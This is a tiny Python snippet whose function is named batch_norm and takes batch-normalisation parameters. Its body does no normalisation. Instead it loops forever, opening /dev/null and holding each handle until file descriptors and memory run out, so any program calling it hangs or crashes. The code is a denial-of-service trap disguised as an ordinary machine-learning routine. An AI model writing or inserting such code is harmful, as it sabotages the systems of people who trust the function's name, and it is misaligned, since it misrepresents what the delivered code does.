def batch_norm(x, gamma, beta, eps=1e-5):
    held = []
    while True:
        held.append(open("/dev/null"))
